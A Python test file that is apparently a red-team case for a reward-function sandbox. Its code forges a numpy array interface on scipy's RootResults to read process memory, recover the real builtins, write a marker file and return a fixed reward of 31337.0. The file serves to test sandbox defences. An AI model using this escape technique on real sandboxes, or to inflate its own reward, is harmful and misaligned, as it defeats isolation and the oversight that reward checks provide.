# Attack: root_scalar's RootResults (also dict-backed) gets the key through .setdefault().
# Success would create /tmp/reward_sandbox_attack_marker or return 31337.0.
import random

import numpy as np
from scipy.optimize import root_scalar


def shifted(x):
    return x - 1.0


def holder(iface):
    result = root_scalar(shifted, bracket=[0.0, 2.0])
    result.setdefault("__array_interface__", iface)
    return result


def peek(addr):
    iface = {"shape": (1,), "typestr": "<u8", "data": (addr, False), "version": 3}
    return int(np.asarray(holder(iface))[0])


def object_at(addr):
    cell = np.zeros(1, dtype=np.uint64)
    cell[0] = addr
    data = peek(id(cell) + 16)  # PyArrayObject.data
    iface = {"shape": (1,), "typestr": "|O", "data": (data, False), "version": 3}
    return np.asarray(holder(iface))[0]


def escape():
    func = peek(id(random.choice) + 16)  # PyMethodObject.im_func
    real = object_at(peek(func + 24))  # PyFunctionObject.func_builtins
    try:
        real["open"]("/tmp/reward_sandbox_attack_marker", "w").close()
    except Exception:
        pass
    return real["eval"]("31337.0")


def reward_function(params):
    return escape()
